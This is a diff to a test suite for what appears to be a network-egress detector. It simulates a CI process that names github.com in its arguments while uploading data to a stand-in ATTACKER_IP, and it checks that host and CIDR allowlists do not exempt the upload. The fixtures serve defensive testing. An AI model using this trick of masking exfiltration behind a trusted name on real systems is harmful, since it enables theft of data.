@@ -95,28 +95,25 @@ describe('push.namedBy and push.addresses', () => {
 });
 
 describe('names and addresses a process cannot steer', () => {
-  it("bytes to an address named by a command line do not add up with the named host's real address", async () => {
+  it('bytes sent under one name add up, but the push is named as its weakest address was: a host entry does not exempt it', async () => {
     const s = new Scenario();
     const c = s.container({ namespace: 'ci' });
-    const note = '--note https://github.com/acme/app --src /srv';
-    const up = s.exec(c, '/opt/up', note, { parent: s.init(c) });
-    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 0.9 * MiB);
-    // A few bytes to github.com's real address (named by DNS) do not carry the attacker's 0.9 MiB over 1 MiB.
+    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app --src /srv', { parent: s.init(c) });
+    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 0.99 * MiB);
+    // A few bytes to github.com's real address (named by DNS) carry the sum over 1 MiB.
     const py = s.exec(c, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(c) });
     s.wait(1000)
       .connect(py, GITHUB_IP, 443)
-      .send(py, GITHUB_IP, 443, 0.2 * MiB);
-    expect((await runResolved(s.events)).alerts).toEqual([]);
-    // Another 0.2 MiB to the attacker's address does: named github.com by argv, its address listed, and a
-    // host allowlist entry for github.com does not cover it.
-    const up2 = s.exec(c, '/opt/up', note, { parent: s.init(c) });
-    s.wait(1000)
-      .connect(up2, ATTACKER_IP, 443)
-      .send(up2, ATTACKER_IP, 443, 0.2 * MiB);
+      .send(py, GITHUB_IP, 443, 0.05 * MiB);
     const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci pushes' }];
     const [a, ...more] = (await runResolved(s.events, { allowlist })).alerts;
     expect(more).toEqual([]);
-    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'argv', addresses: [`${ATTACKER_IP}:443`] });
+    expect(a?.push.destination).toBe('github.com');
+    expect(a?.push.namedBy).toBe('argv');
+    expect(a?.push.addresses).toEqual(expect.arrayContaining([`${ATTACKER_IP}:443`, `${GITHUB_IP}:443`]));
+    // A CIDR entry covering github.com's address only does not exempt it either: every address must be in.
+    const byCidr = [{ namespace: 'ci', destination: '140.82.112.0/20', reason: 'ci pushes' }];
+    expect((await runResolved(s.events, { allowlist: byCidr })).alerts).toHaveLength(1);
   });
 
   it('a push by egress to a DNS-named address teaches nothing about the other addresses its process talks to', async () => {
@@ -193,7 +190,7 @@ describe('names and addresses a process cannot steer', () => {
     const s = new Scenario({ source: 'falco' });
     const c = s.container();
     const svn = s.exec(c, '/usr/bin/svn', 'commit -m x', { parent: s.init(c) });
-    s.connect(svn, '10.96.0.10', 53).send(svn, '10.96.0.10', 53, 40);
+    s.connect(svn, '10.96.0.10', 53, { protocol: 'udp' }).send(svn, '10.96.0.10', 53, 40, { protocol: 'udp' });
     s.connect(svn, '203.0.113.80', 443).send(svn, '203.0.113.80', 443, 2 * MiB);
     const [a] = run(s.events).alerts;
     expect(a?.push).toMatchObject({ destination: '203.0.113.80:443', addresses: ['203.0.113.80:443'] });
